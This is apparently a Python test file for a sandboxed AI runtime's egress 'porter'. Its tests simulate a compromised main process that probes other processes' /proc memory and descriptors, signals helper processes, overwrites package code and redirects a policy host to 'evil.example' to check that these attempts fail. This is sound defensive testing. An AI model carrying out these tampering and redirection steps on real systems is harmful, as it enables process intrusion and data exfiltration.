"""A main that was taken over has the porter's channel in its hands: what it asks for, and what that gets it."""

import base64
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.wire.server import Recorder

ROOT = Path(__file__).parents[2]
IMPORTS = """
import json, os, socket, sys, time
from pathlib import Path
from localai.runtime import from_environment
from localai.vocabulary.reach import Reach
"""
SEALED = """
runtime = from_environment(os.environ, "app")
link = runtime.start_porter(Reach.ONLINE)
before = set(os.listdir("/proc"))
missing = [str(part) for part, _ in runtime.seal().missing]

def opened(path, flags=os.O_RDWR):
    try:
        os.close(os.open(path, flags))
    except OSError as error:
        return type(error).__name__
    return "opened"

def others():
    return [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
"""


def told_by(code: str, home: Path, *, starting: str = IMPORTS + SEALED, **more: str) -> object:
    """Run code in a sealed main that has a porter with doors; it leaves its finding in `found`."""
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(home)}
    environment |= {"LOCALAI_HOME": str(home / "localai"), **more}
    words = [sys.executable, "-c", f"{starting}\n{code}\nprint(json.dumps(found))\nruntime.close()"]
    done = subprocess.run(words, env=environment, cwd=home, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the kernel parts are Linux's")


def test_it_never_gets_into_a_door_that_is_starting(tmp_path: Path):
    code = """
mine, its = socket.socketpair()
from localai.egress import porter
porter.send(link._channel, porter.DOOR, (its.fileno(),))
tries, seen = [], set()
end = time.monotonic() + 1.0
while time.monotonic() < end:
    for name in others():
        outcome = opened(f"/proc/{name}/mem")
        if outcome != "FileNotFoundError":
            seen.add(name)
        if outcome == "opened":
            tries.append(name)
found = [missing, tries, len(seen - before) > 0]
"""
    assert told_by(code, tmp_path) == [[], [], True]


def test_it_sees_no_descriptor_of_porter_or_door(tmp_path: Path):
    code = """
door = link.door()
found = sorted({opened(f"/proc/{name}/fd/{number}", os.O_RDONLY) for name in others() for number in range(3, 8)})
"""
    assert "opened" not in told_by(code, tmp_path)


def test_it_takes_no_descriptor_from_anybody(tmp_path: Path):
    code = """
door = link.door()
try:
    socket.recv_fds(door, 1, 4)
    found = "received"
except PermissionError:
    found = "refused"
"""
    assert told_by(code, tmp_path) == "refused"


def test_it_ends_neither_porter_nor_template_nor_door(tmp_path: Path):
    code = """
door = link.door()
refused = []
for name in others():
    try:
        os.kill(int(name), 0)
    except PermissionError:
        refused.append(int(name))
    except ProcessLookupError:
        pass

def children(pid):
    return [int(each) for each in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]

porter, (template,) = link._process.pid, children(link._process.pid)
found = [each in refused for each in (porter, template, *children(template))]
"""
    assert told_by(code, tmp_path) == [True] * 3


REWRITING = """
import base64
from types import SimpleNamespace
from localai.egress import link as links
from localai.egress.keys import RemoteBackend
from localai.egress.recording import Recording
from localai.errors import KeyringAbsentError
from localai.vocabulary.outbound import Resolve
import localai
from tests.wire import orders
from dataclasses import replace

runtime = from_environment(os.environ, "app")
fixed = runtime._doors(Reach.ONLINE, ())
anew = links.start(python=runtime.python, viewer=[], folders=[], environment=os.environ, doors=fixed, forks=False)
link = runtime.start_porter(Reach.ONLINE)
runtime.seal()

place, mark, found = Path(localai.__file__).parent, Path(os.environ["HOME"]) / "ran", {}
assert place.is_relative_to(os.environ["HOME"]), "these are not the copies"
for path in place.rglob("*.py"):
    path.write_text(f"open({str(mark)!r}, 'a').write({str(path)!r})")
for path in place.rglob("*.pyc"):
    path.unlink()
for path in (place / "policy" / "cards").glob("*.toml"):
    path.write_text(path.read_text().replace("api.openai.com", "evil.example"))

ca = base64.b64decode(os.environ["RECORDER"])
recorder = SimpleNamespace(port=int(os.environ["PORT"]), ca=ca, ca_digest=orders.digest_of(ca))
home, shown = Path(os.environ["HOME"]), orders.credential()
for host in ("api.openai.com", "evil.example"):
    order = orders.order_for(recorder, orders.exchange(shown=shown, host=host), shown=shown,
                             network=orders.network_to(recorder, host))
    given = orders.send(link, order, home)
    found[host] = [given.delivered.stage, given.delivered.problem]
try:
    RemoteBackend(link).get_password("localai", "nothing")
except KeyringAbsentError:
    found["key reader"] = "no keyring here"
with Recording(link.recorder(), ["api.openai.com"]) as recording:
    found["recorder"] = recording.network.resolve[0].host
found["ran"] = mark.exists()
orders.send(anew, order, home)
found["ran in a door that is started anew"] = mark.exists()
anew.close()
"""


def test_what_it_writes_over_our_code_and_cards_changes_no_door_no_key_reader_and_no_recorder(tmp_path: Path):
    shutil.copytree(ROOT / "localai", tmp_path / "code" / "localai", ignore=shutil.ignore_patterns("__pycache__"))
    with Recorder() as recorder:
        more = {"RECORDER": base64.b64encode(recorder.ca).decode(), "PORT": str(recorder.port)}
        path = f"{tmp_path / 'code'}{os.pathsep}{ROOT}"
        found = told_by(REWRITING, tmp_path, starting=IMPORTS, PYTHONPATH=path, **more)
    assert found == {
        "api.openai.com": ["done", ""],
        "evil.example": ["refused", "host"],
        "key reader": "no keyring here",
        "recorder": "api.openai.com",
        "ran": False,
        "ran in a door that is started anew": True,
    }
    assert len(recorder.requests) == 1
